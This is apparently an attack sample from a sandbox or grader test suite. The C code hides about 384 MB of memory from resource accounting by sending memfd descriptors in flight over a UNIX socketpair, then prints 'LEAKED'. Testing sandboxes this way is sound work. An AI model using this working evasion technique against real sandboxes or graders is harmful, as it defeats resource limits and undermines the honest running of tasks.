// attack: keeps eight times 48 MB in files in memory, and more in descriptors that are on their way
// task: pack_leaf
// named: socketpair\(\)
#undef __USE_EXTERN_INLINES  // no functions of headers inside of a function
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>
    (void)tree, (void)id, (void)ids, (void)n_ids;
    static char block[1 << 20];
    int ends[2], is_sent = 0;
    memset(block, 1, sizeof block);
    socketpair(AF_UNIX, SOCK_DGRAM, 0, ends);
    for (int i = 0; i < 8; i++) {
        int file = memfd_create("held", 0);
        if (file < 0) {
            file = open("out/held", O_RDWR | O_CREAT, 0600);
            unlink("out/held");
        }
        union { struct cmsghdr header; char bytes[CMSG_SPACE(sizeof(int))]; } control = {
            .header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
        memcpy(CMSG_DATA(&control.header), &file, sizeof file);
        struct iovec byte = {block, 1};
        struct msghdr message = {.msg_iov = &byte, .msg_iovlen = 1, .msg_control = &control,
                                 .msg_controllen = sizeof control};
        for (int k = 0; k < 48; k++) {
            (void)!write(file, block, sizeof block);
        }
        is_sent += sendmsg(ends[0], &message, 0) == 1;
        close(file);
    }
    if (is_sent > 0) {
        usleep(1500000);
        printf("LEAK" "ED: holds %d times 48 MB where nobody counts them\n", is_sent);
    }
    exit(7);
